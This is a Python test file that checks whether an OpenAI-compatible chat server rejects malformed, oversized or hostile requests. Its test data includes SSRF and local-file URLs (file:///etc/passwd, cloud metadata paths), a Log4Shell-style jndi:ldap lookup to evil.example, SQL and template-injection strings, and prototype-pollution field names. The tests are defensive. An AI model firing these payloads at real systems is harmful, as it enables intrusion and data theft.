"""Bodies that are wrong, odd, or hostile. Numbers refer to the list of faults."""

from __future__ import annotations

import json
import random
import socket
import threading
import time
from collections.abc import AsyncIterator, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import anyio
import httpx2
import pytest

from openai_compat import (
    AgentError,
    AgentRequest,
    Capabilities,
    MessagePolicy,
    Server,
    TextDelta,
    ToolCallReady,
    as_backend,
)
from tests.trust.probe import CHAT, JSON, Counting, ask, error_of, frames, in_process, strict_json
from tests.trust.wire import process

pytestmark = pytest.mark.anyio
COMPLETIONS = "/v1/completions"
USER = {"role": "user", "content": "hi"}


async def post(body: bytes | str, path: str = CHAT, agent: Any = None) -> httpx2.Response:
    """The answer to exactly this body."""
    async with in_process(Server(agent or Counting())) as client:
        return await client.post(path, content=body, headers=JSON)


async def chat(agent: Any = None, **fields: Any) -> httpx2.Response:
    """The answer to a valid request with these fields added."""
    return await post(json.dumps(ask(**fields)), agent=agent)


GOOD = json.dumps(ask())


@pytest.mark.parametrize("path", [CHAT, COMPLETIONS])
@pytest.mark.parametrize(
    "body",
    [
        b"",
        b" \n\t ",
        b"{",
        b"[]",
        b"null",
        b"true",
        b"1",
        b'"a string"',
        GOOD[:-1].encode(),
        GOOD.encode() + b"}",
        GOOD.encode() * 2,
        GOOD.replace('"', "'").encode(),
        GOOD.replace("}", ",}").encode(),
        b"{model: 'agent'}",
        b'{"model": }',
        b"/* comment */ " + GOOD.encode(),
        b'{"model" "agent"}',
        b'{"a": "\x00"}',
        b'{"a": "\n"}',
        b'{"a": "\\x"}',
        b'{"a": 01}',
        b'{"a": "\xff\xfe"}',
        b'{"a": "\xc3"}',
        b'{"a": "\xed\xa0\x80"}',
        GOOD.encode("utf-16"),
        GOOD.encode("utf-16-le"),
        GOOD.encode("utf-32"),
        b"\x00" * 100,
        b"model=agent&messages=hi",
        b"--x\r\nContent-Disposition: form-data; name=a\r\n\r\nb\r\n--x--",
    ],
)
async def test_a_body_that_is_no_json_object_is_refused(body: bytes, path: str) -> None:
    """87 (and 22: text that is not UTF-8)"""
    assert error_of(await post(body, path)) == (400, "invalid_request_error", "invalid_request", None)


@pytest.mark.parametrize(
    "number",
    ["NaN", "Infinity", "-Infinity", "1e999", "-1e999", "1E+999", "1e0400", "1" + "0" * 400 + ".0", "9" * 300 + "e99"],
    ids=lambda number: number[:12],
)
@pytest.mark.parametrize("field", ["temperature", "seed", "unknown", "deep"])
async def test_numbers_that_json_does_not_have_are_refused(number: str, field: str) -> None:
    """88, in known and in unknown fields"""
    value = number if field != "deep" else f'{{"a": [1, {{"b": {number}}}]}}'
    answer = await post(f'{GOOD[:-1]}, "{field}": {value}}}')
    assert error_of(answer)[:2] == (400, "invalid_request_error")


@pytest.mark.parametrize("field", ["seed", "n", "max_tokens", "temperature", "unknown", "logit_bias"])
async def test_integers_of_five_thousand_digits_are_refused(field: str) -> None:
    """89: Python itself refuses to parse them, which must not become a 500"""
    value = "9" * 5_000
    answer = await post(f'{GOOD[:-1]}, "{field}": {value if field != "logit_bias" else f"""{{"1": {value}}}"""}}}')
    assert error_of(answer)[:2] == (400, "invalid_request_error")


DEEP = 100_000


@pytest.mark.parametrize(
    "body",
    [
        "[" * DEEP,
        "[" * DEEP + "]" * DEEP,
        '{"a":' * DEEP + "1" + "}" * DEEP,
        f'{GOOD[:-1]}, "unknown": {"[" * DEEP}{"]" * DEEP}}}',
        f'{{"model": "agent", "messages": {"[" * DEEP}{"]" * DEEP}}}',
        f'{GOOD[:-1]}, "tools": [{{"type": "function", "function": {{"name": "f", "parameters": '
        + '{"properties":' * DEEP
        + "{}"
        + "}" * DEEP
        + "}}]}",
        f'{GOOD[:-1]}, "metadata": ' + '{"a":' * DEEP + "1" + "}" * DEEP + "}",
    ],
    ids=["open", "array", "object", "unknown", "messages", "schema", "metadata"],
)
async def test_json_a_hundred_thousand_levels_deep_is_refused_at_once(body: str) -> None:
    """90"""
    with anyio.fail_after(3):
        assert error_of(await post(body))[:2] == (400, "invalid_request_error")


@pytest.mark.parametrize("depth", [90, 150, 199, 250, 900])
@pytest.mark.parametrize("where", ["unknown", "tools", "response_format", "metadata"])
async def test_json_of_some_depth_is_taken_or_refused(depth: int, where: str) -> None:
    """91"""
    nested = '{"a":' * depth + "1" + "}" * depth
    value = {
        "unknown": nested,
        "metadata": nested,
        "tools": f'[{{"type": "function", "function": {{"name": "f", "parameters": {nested}}}}}]',
        "response_format": f'{{"type": "json_schema", "json_schema": {{"name": "a", "schema": {nested}}}}}',
    }[where]
    answer = await post(f'{GOOD[:-1]}, "{where}": {value}}}', agent=everything)
    assert answer.status_code in (200, 400)
    if answer.status_code == 400:
        error_of(answer)


CALL = {"id": "call_1", "type": "function", "function": {"name": "f", "arguments": "{}"}}
CALLED = {"role": "assistant", "content": None, "tool_calls": [CALL]}


@pytest.mark.parametrize(
    ("messages", "param"),
    [
        (None, "messages"),
        ("hi", "messages"),
        (USER, "messages"),
        (1, "messages"),
        ([], "messages"),
        ([None], "messages[0]"),
        (["hi"], "messages[0]"),
        ([[]], "messages[0]"),
        ([{}], "messages[0].role"),
        ([USER, {"content": "hi"}], "messages[1].role"),
        ([{"role": "user"}], "messages[0].content"),
        ([{"role": "root", "content": "hi"}], "messages[0].role"),
        ([{"role": 1, "content": "hi"}], "messages[0].role"),
        ([{"role": "user", "content": 1}], "messages[0].content"),
        ([{"role": "user", "content": None}], "messages[0].content"),
        ([{"role": "user", "content": []}], "messages[0].content"),
        ([{"role": "user", "content": {}}], "messages[0].content"),
        ([{"role": "user", "content": ["hi"]}], "messages[0].content[0]"),
        ([{"role": "user", "content": [{"text": "hi"}]}], "messages[0].content[0].type"),
        ([{"role": "user", "content": [{"type": "hologram"}]}], "messages[0].content[0].type"),
        ([{"role": "user", "content": [{"type": "text"}]}], "messages[0].content[0].text"),
        ([{"role": "user", "content": [{"type": "text", "text": 1}]}], "messages[0].content[0].text"),
        ([{"role": "user", "content": [{"type": "image_url"}]}], "messages[0].content[0].image_url"),
        ([{"role": "user", "content": [{"type": "image_url", "image_url": "x"}]}], "messages[0].content[0].image_url"),
        ([{"role": "system", "content": None}, USER], "messages[0].content"),
        ([USER, {"role": "tool", "content": "x"}], "messages[1].tool_call_id"),
        ([USER, {"role": "tool", "content": "x", "tool_call_id": "call_1"}], "messages[1].tool_call_id"),
        ([USER, CALLED], "messages[1].tool_calls"),
        ([USER, CALLED, USER], "messages[1].tool_calls"),
        ([USER, {**CALLED, "tool_calls": [{**CALL, "id": ""}]}], "messages[1].tool_calls[0].id"),
        ([USER, {**CALLED, "tool_calls": [{"id": "a", "type": "function"}]}], "messages[1].tool_calls[0].function"),
        ([USER, {**CALLED, "tool_calls": "call_1"}], "messages[1].tool_calls"),
    ],
)
async def test_wrong_messages_are_refused_with_the_place(messages: Any, param: str) -> None:
    """92"""
    agent = Counting()
    status, kind, _, where = error_of(await chat(agent, messages=messages))
    assert (status, kind, where) == (400, "invalid_request_error", param)
    assert agent.runs == 0


ASYNC_CALL = {**CALL, "async": True}


@pytest.mark.parametrize(
    "messages",
    [
        [{"role": "user", "content": [{"type": "text", "text": "hi"}]}],
        [{"role": "system", "content": [{"type": "text", "text": "be brief"}]}, USER],
        [{"role": "developer", "content": "be brief", "name": "ops"}, USER],
        [USER, {"role": "assistant", "content": None}, USER],
        [USER, {"role": "assistant"}],
        [USER, USER, USER],
        [{"role": "assistant", "content": "hello"}, USER],
        [USER, {"role": "assistant", "content": [{"type": "refusal", "refusal": "no"}]}, USER],
        [USER, CALLED, {"role": "tool", "content": [{"type": "text", "text": "x"}], "tool_call_id": "call_1"}],
        [USER, {**CALLED, "tool_calls": [ASYNC_CALL]}, USER],
        [USER, {"role": "system", "content": "late instructions"}],
        [{**USER, "name": "alice", "x-extra": {"deep": [1]}}],
        [USER, {"role": "assistant", "content": "", "tool_calls": None, "function_call": None}, USER],
        [{"role": "user", "content": "x" * 100_000}],
        [USER] * 2_000,
    ],
    ids=lambda messages: f"{len(messages)} {messages[-1]['role']}",
)
async def test_unusual_but_legal_messages_are_taken(messages: Any) -> None:
    """93"""
    assert (await chat(messages=messages)).status_code == 200


@pytest.mark.parametrize(
    "messages",
    [
        [{"role": "system", "content": "be brief"}],
        [{"role": "assistant", "content": "hello"}],
        [{"role": "user", "content": ""}],
        [{"role": "user", "content": " \n"}],
        [{"role": "user", "content": [{"type": "text", "text": ""}]}],
    ],
)
async def test_a_conversation_without_a_word_from_the_user_is_refused_where_a_policy_says_so(messages: Any) -> None:
    """94"""
    async with in_process(Server(Counting(), messages=MessagePolicy(user="required"))) as client:
        refused = await client.post(CHAT, json=ask(messages=messages))
    assert error_of(refused) == (400, "invalid_request_error", "invalid_request", "messages")
    assert (await chat(messages=messages)).status_code == 200


@pytest.mark.parametrize("path", [CHAT, COMPLETIONS])
async def test_a_model_that_is_missing_or_no_text_is_refused_and_an_unknown_one_not_found(path: str) -> None:
    """95"""
    body: dict[str, Any] = {"messages": [USER], "prompt": "hi"}
    missing = error_of(await post(json.dumps(body), path))
    assert missing == (400, "invalid_request_error", "missing_required_parameter", "model")
    for wrong in (None, 1, True, [], {}, ""):
        assert error_of(await post(json.dumps({**body, "model": wrong}), path))[::3] == (400, "model")
    for unknown in ("other", "AGENT", " agent", "agent\x00", "../agent", "a" * 10_000):
        answer = await post(json.dumps({**body, "model": unknown}), path)
        assert error_of(answer) == (404, "invalid_request_error", "model_not_found", "model")
        assert len(answer.content) < 400


OUT_OF_RANGE: dict[str, list[Any]] = {
    "temperature": [-0.1, 2.1, "1", True, [1]],
    "top_p": [-0.1, -1, 1.1, "0.5"],
    "n": [0, -1, 129, 1.5, "2", True],
    "max_tokens": [0, -2, -1.5, 1.5, "10", "-1", True],
    "max_completion_tokens": [0, -2, 2.5, "10"],
    "frequency_penalty": [-2.1, 2.1, "0"],
    "presence_penalty": [-2.1, 2.1, {}],
    "logit_bias": [[], "x", {"1": 101}, {"1": -101}, {"1": "x"}],
    "top_logprobs": [-1, 21, 1.5],
    "stop": [1, ["a", "b", "c", "d", "e"], [1], "", [""]],
    "seed": [1.5, "1", True],
    "stream": ["true", 1, "yes"],
    "stream_options": [True, [], {"include_usage": "yes"}],
    "logprobs": ["true", 1],
    "user": [1, [], True],
    "metadata": [[], {"a": 1}, {"a" * 65: "x"}, {"a": "x" * 513}, {str(i): "x" for i in range(17)}],
    "modalities": ["text", [], ["video"], [1]],
    "reasoning_effort": ["huge", 1],
    "verbosity": ["loud", 2],
    "service_tier": ["gold", 1],
    "parallel_tool_calls": ["no", 0],
    "response_format": ["json", {}, {"type": "xml"}, {"type": "json_schema"}],
    "tools": [{}, "x", [1], [{}], [{"type": "magic"}], [{"type": "function"}]],
    "tool_choice": ["maybe", 1, {}, {"type": "function"}, "required", {"type": "function", "function": {"name": "f"}}],
    "functions": [[{"name": "f"}]],
    "function_call": ["auto"],
    "store": ["yes"],
    "audio": [1, {"format": "wav"}],
}


@pytest.mark.parametrize(("name", "value"), [(name, value) for name in OUT_OF_RANGE for value in OUT_OF_RANGE[name]])
async def test_a_value_out_of_range_is_refused_by_name(name: str, value: Any) -> None:
    """96"""
    agent = Counting()
    status, kind, code, param = error_of(await chat(agent, **{name: value}))
    assert (status, kind) == (400, "invalid_request_error")
    assert code is not None
    assert param is not None
    assert param.replace("[", ".").split(".")[0] == name
    assert agent.runs == 0


@pytest.mark.parametrize("name", [*OUT_OF_RANGE, "prediction", "web_search_options", "moderation", "prompt_cache_key"])
async def test_null_is_as_good_as_absent(name: str) -> None:
    """97"""
    assert (await chat(**{name: None})).status_code == 200


HUGE: list[dict[str, Any]] = [
    {"n": 10**9},
    {"n": 100},
    {"best_of": 10**9},
    {"logprobs": 10**7},
    {"logprobs": True, "top_logprobs": 10**7},
    {"max_tokens": 10**30},
    {"max_completion_tokens": 2**63},
    {"seed": -(10**30)},
    {"logit_bias": {str(number): 1 for number in range(20_000)}},
    {"stop": ["a" * 100_000]},
    {"stop": ["a" * 500, "b" * 500, "ab" * 250, "ba" * 250]},
    {"prompt_logprobs": -1, "echo": True},
]


@pytest.mark.parametrize("fields", HUGE, ids=lambda fields: next(iter(fields)))
async def test_huge_numbers_cost_nothing(fields: dict[str, Any]) -> None:
    """98"""
    with anyio.fail_after(3):
        answer = await chat(**fields)
    assert answer.status_code == 200 or error_of(answer)[0] == 400


async def test_more_choices_than_the_server_allows_are_refused_before_any_agent_runs() -> None:
    """98"""
    agent = Counting()
    assert error_of(await chat(agent, n=9)) == (400, "invalid_request_error", "invalid_value", "n")
    assert (
        error_of(await post(json.dumps({"model": "agent", "prompt": ["a"] * 5, "n": 2}), COMPLETIONS, agent))[0] == 400
    )
    assert agent.runs == 0


def tool(name: str = "f", **parameters: Any) -> dict[str, Any]:
    return {"type": "function", "function": {"name": name, "parameters": parameters}}


async def seeing_tools(request: AgentRequest) -> str:
    return str(len(request.tools))


@pytest.mark.parametrize(
    ("tools", "statuses"),
    [
        ([tool(f"f{number}") for number in range(5_000)], {400}),
        ([tool(f"f{number}") for number in range(1_000)], {200}),
        ([tool("same"), tool("same")], {400}),
        ([tool("")], {400}),
        ([tool("a" * 65)], {400}),
        ([tool("a b")], {400}),
        ([tool("a\n")], {400}),
        ([tool("../../etc/passwd")], {400}),
        ([tool("f", **{"$ref": "#"})], {200}),
        ([tool("f", **{"$defs": {"a": {"$ref": "#/$defs/a"}}, "$ref": "#/$defs/a"})], {200}),
        ([tool("f", type="object", properties={"a": {"pattern": "^(a+)+$"}})], {200}),
        ([tool("f", type="nonsense")], {200}),
        ([{"type": "function", "function": {"name": "f", "parameters": []}}], {400}),
    ],
)
async def test_tools_made_to_hurt_are_refused_or_handed_over_unread(tools: Any, statuses: set[int]) -> None:
    """99: the server neither resolves references nor compiles patterns in a tool's schema"""
    with anyio.fail_after(3):
        answer = await chat(seeing_tools, tools=tools)
    assert answer.status_code in statuses
    if answer.status_code == 400:
        assert (error_of(answer)[3] or "").startswith("tools")


async def test_a_pattern_in_a_response_format_is_never_matched() -> None:
    """99"""

    async def agent(request: AgentRequest) -> str:
        return "a" * 40 + "!"

    schema = {"name": "s", "schema": {"type": "string", "pattern": "^(a+)+$"}, "strict": True}
    with anyio.fail_after(3):
        answer = await chat(agent, response_format={"type": "json_schema", "json_schema": schema})
    assert answer.status_code == 200


ODD_TEXT = [
    "\x00",
    "\x00hidden\x00",
    "\ufeffBOM",
    "\u202eright-to-left\u202c",
    "👩‍👩‍👧‍👦" * 1_000,
    "a" + "\u0301" * 10_000,
    "\u2028\u2029\x85",
    "data: [DONE]\n\n",
    "\r\n\r\n",
    "\ud83d\ude00",
    "\U0010ffff",
]


@pytest.mark.parametrize("text", ODD_TEXT, ids=lambda text: ascii(text[:8]))
@pytest.mark.parametrize("stream", [False, True])
async def test_odd_text_is_carried_unchanged(text: str, stream: bool) -> None:
    """100"""
    seen: list[str] = []

    async def echo(prompt: str) -> str:
        seen.append(prompt)
        return prompt

    text = text.encode("utf-16", "surrogatepass").decode("utf-16")
    answer = await chat(echo, messages=[{"role": "user", "content": f"<{text}>"}], stream=stream)
    said = answer.text.split("\n\n")[1].removeprefix("data: ") if stream else answer.text
    choice = strict_json(said)["choices"][0]
    assert choice["delta" if stream else "message"]["content"] == seen[0] == f"<{text}>"


@pytest.mark.parametrize("escape", ["\\ud800", "\\udfff", "\\udc00\\ud800", "\\ud800x"])
@pytest.mark.parametrize("place", ["content", "name", "id", "model", "key"])
async def test_half_a_surrogate_pair_is_refused(escape: str, place: str) -> None:
    """100, 101: no UTF-8 can carry it, in text, ids or names"""
    body = {
        "content": f'{{"model": "agent", "messages": [{{"role": "user", "content": "{escape}"}}]}}',
        "name": f'{{"model": "agent", "messages": [{{"role": "user", "content": "x", "name": "{escape}"}}]}}',
        "id": f'{{"model": "agent", "messages": [{{"role": "tool", "content": "x", "tool_call_id": "{escape}"}}]}}',
        "model": f'{{"model": "{escape}", "messages": [{{"role": "user", "content": "x"}}]}}',
        "key": f'{GOOD[:-1]}, "{escape}": 1}}',
    }[place]
    assert error_of(await post(body))[:2] == (400, "invalid_request_error")


def said_in(answer: httpx2.Response) -> str:
    """The text of a chat answer, plain or streamed."""
    if not answer.text.startswith("data: "):
        return str(answer.json()["choices"][0]["message"]["content"])
    chunks = [frame for frame in frames(answer.content) if isinstance(frame, dict)]  # all but the end marker
    choices = [choice for chunk in chunks for choice in chunk["choices"]]
    return "".join([choice["delta"].get("content") or "" for choice in choices])


async def test_an_agents_own_half_surrogates_are_replaced_everywhere() -> None:
    """101: in text, names, ids and errors; the answer is complete and strict JSON"""

    async def agent(request: AgentRequest) -> AsyncIterator[Any]:
        if request.prompt == "fail":
            raise AgentError("\ud800 failed", code="\udfff")
        yield "plain \ud800"
        yield TextDelta("event \udfff")
        if request.tools:
            yield ToolCallReady("call_\ud800", "f", '{"a": "\ud800"}')

    for stream in (False, True):
        answer = await chat(agent, stream=stream)
        said = said_in(answer)  # half a pair waits for the next piece, which may bring the other half
        assert said == "plain \ufffdevent \ufffd"
        answer = await chat(agent, stream=stream, tools=[tool("f")])
        assert "call_\ufffd" in answer.text
        assert answer.status_code == 200
    failed = await chat(agent, messages=[{"role": "user", "content": "fail"}])
    assert error_of(failed) == (500, "server_error", "\ufffd", None)


@contextmanager
def canary() -> Iterator[tuple[int, Any]]:
    """A port that nobody may connect to, and a function that reports a connection."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)

        def was_called() -> bool:
            try:
                listener.accept()[0].close()
            except BlockingIOError:
                return False
            return True

        yield listener.getsockname()[1], was_called


URLS = [
    "http://127.0.0.1:PORT/x.png",
    "https://127.0.0.1:PORT/x.png",
    "http://localhost:PORT/latest/meta-data/",
    "http://[::ffff:127.0.0.1]:PORT/",
    "http://2130706433:PORT/",
    "http://0x7f.1:PORT/",
    "http://user:pass@127.0.0.1:PORT/",
    "http://evil.example@127.0.0.1:PORT/",
    "ftp://127.0.0.1:PORT/x",
    "gopher://127.0.0.1:PORT/_x",
    "file:///etc/passwd",
    "file://localhost/etc/passwd",
    "/etc/passwd",
    "\\\\127.0.0.1\\share\\x",
    "javascript:alert(1)",
    "data:text/html;base64,PGI+",
]


async def test_no_url_in_a_request_is_fetched_and_no_file_is_read() -> None:
    """102: the agent gets the request unchanged"""
    seen: list[AgentRequest] = []

    async def agent(request: AgentRequest) -> str:
        seen.append(request)
        return "ok"

    with canary() as (port, was_called):
        for url in [url.replace("PORT", str(port)) for url in URLS]:
            parts = [
                {"type": "image_url", "image_url": {"url": url}},
                {"type": "input_audio", "input_audio": {"data": url, "format": "wav"}},
                {"type": "file", "file": {"file_data": url, "filename": url}},
            ]
            uploaded = [{"type": "file", "file": {"file_id": url}}]
            unknown = await chat(agent, messages=[{"role": "user", "content": uploaded}])
            assert (unknown.status_code, unknown.json()["error"]["code"]) == (400, "file_not_found")
            answer = await chat(agent, messages=[{"role": "user", "content": parts}])
            assert answer.status_code == 200
            assert seen.pop().raw_messages[0]["content"] == parts
            assert "root:" not in answer.text
        assert not was_called()


@pytest.mark.parametrize(
    "value",
    [
        b"",
        b" ",
        b"a" * 8_000,
        b"../../etc/passwd",
        b"a/b?c#d",
        b"a:b",
        b"%00%0a",
        b"\x00",
        b"a\x00b",
        b"\xff\xfe",
        "конь".encode(),
        "🐎".encode(),
        b"'; drop table conv; --",
        b"${jndi:ldap://evil.example}",
        b"{{7*7}}",
        b"<script>",
        b"null",
        b"__proto__",
        b"a\tb",
    ],
)
async def test_a_hostile_conversation_id_does_nothing(value: bytes) -> None:
    """103"""
    async with in_process(Server(Counting())) as client:
        answer = await client.post(CHAT, json=ask(), headers=[(b"x-conversation-id", value)])
    assert answer.status_code in (200, 400)
    assert len(value) < 3 or value not in b" ".join([name + value for name, value in answer.headers.raw])


async def everything(request: AgentRequest) -> str:
    """Accepts everything that a request may have, and returns the names of the fields that the server does not know."""
    return json.dumps(sorted(request.extra))


async def test_unknown_fields_are_kept_and_have_no_power() -> None:
    """104"""
    names = ["__class__", "__dict__", "__init__", "__pydantic_extra__", "__proto__", "constructor", "model_config"]
    names += ["model_fields", "model_extra", "copy", "self", "cls", "schema_", "", "a.b", "principal", "raw_messages"]
    fields = {name: {"polluted": True} for name in names}
    answer = await chat(everything, **fields)
    assert answer.status_code == 200
    assert json.loads(answer.json()["choices"][0]["message"]["content"]) == sorted(names)


async def test_unknown_fields_at_every_level_are_harmless() -> None:
    """104"""
    odd = {"__class__": "x", "__proto__": {}, "model_config": 1, "type_": 2}
    message = {"role": "user", "content": [{"type": "text", "text": "hi", **odd}], **odd}
    tools = [{"type": "function", "function": {"name": "f", **odd}, **odd}]
    options = {"include_usage": True, **odd}
    answer = await chat(everything, messages=[message], tools=tools, stream=True, stream_options=options)
    assert answer.status_code == 200


async def test_of_a_field_that_is_there_twice_one_is_taken_whole() -> None:
    """104: the value that is checked is the value that is used"""
    for first, last in ((1, 99), (99, 1)):
        answer = await post(f'{GOOD[:-1]}, "temperature": {first}, "temperature": {last}}}')
        assert answer.status_code == (200 if last == 1 else 400)


async def test_fifty_thousand_unknown_fields_are_quickly_read() -> None:
    """123 (and 104)"""
    with anyio.fail_after(2):
        answer = await chat(**{f"field{number}": number for number in range(50_000)})
    assert answer.status_code == 200


COUNTING = """
from openai_compat import Server
from openai_compat_adapters.starlette import create_app
from tests.trust.probe import Counting

app = create_app(Server(Counting()))
"""


def test_big_bodies_of_tiny_messages_do_not_hold_up_others(tmp_path: Path) -> None:
    """105: four of 1 MiB at once, while another client lists the models. The time limits allow for a busy machine."""
    body = json.dumps(ask(messages=[{"role": "user", "content": "x"}] * 32_000))
    assert len(body) > 1024 * 1024
    with process(COUNTING, tmp_path) as (url, _), httpx2.Client(base_url=url, timeout=30) as client:
        assert client.get("/v1/models").status_code == 200
        results: list[int] = []
        senders = [
            threading.Thread(target=lambda: results.append(client.post(CHAT, content=body, headers=JSON).status_code))
            for _ in range(4)
        ]
        for sender in senders:
            sender.start()
        slowest = 0.0
        while any([sender.is_alive() for sender in senders]):
            began = time.monotonic()
            assert client.get("/v1/models").status_code == 200
            slowest = max(slowest, time.monotonic() - began)
    assert results == [400] * 4
    assert slowest < 5


def mutated(dice: random.Random, body: bytes) -> bytes:
    """The body with a few bytes changed, dropped, repeated or replaced by something nasty."""
    nasty = [b'"', b"{", b"[", b"\\", b"\x00", b"\xff", b"null", b"1e999", b"-", b",", b":", b"\\u0000", b"[]", b"{}"]
    data = bytearray(body)
    for _ in range(dice.randint(1, 4)):
        at = dice.randrange(len(data))
        until = min(len(data), at + dice.randint(0, 12))
        data[at:until] = dice.choice([b"", bytes(data[at:until]) * 2, dice.choice(nasty), dice.randbytes(2)])
    return bytes(data) or b"{}"


async def test_no_mutation_of_a_good_body_makes_the_server_fail() -> None:
    """106: 300 of them, always the same"""
    dice = random.Random(2026)
    whole = ask(
        messages=[
            {"role": "system", "content": "s"},
            USER,
            CALLED,
            {"role": "tool", "content": "r", "tool_call_id": "call_1"},
        ],
        tools=[tool("f", type="object")],
        tool_choice={"type": "function", "function": {"name": "f"}},
        stop=["a", "b"],
        temperature=1.0,
        n=2,
        logit_bias={"1": 2},
        metadata={"a": "b"},
        response_format={"type": "json_schema", "json_schema": {"name": "s", "schema": {}}},
        stream_options={"include_usage": True},
        modalities=["text"],
    )
    body = json.dumps(whole).encode()
    statuses: set[int] = set()
    backend = as_backend(calls_f, capabilities=Capabilities())
    async with in_process(Server(backend)) as client:
        assert (await client.post(CHAT, content=body, headers=JSON)).status_code == 200
        for _ in range(300):
            answer = await client.post(CHAT, content=mutated(dice, body), headers=JSON)
            statuses.add(answer.status_code)
            if answer.status_code != 200:
                assert error_of(answer)[0] in (400, 404)
    assert statuses >= {200, 400}


async def calls_f(request: AgentRequest) -> AsyncIterator[Any]:
    for name in request.tool_choice.names:
        yield ToolCallReady(f"call_{name}", name, "{}")
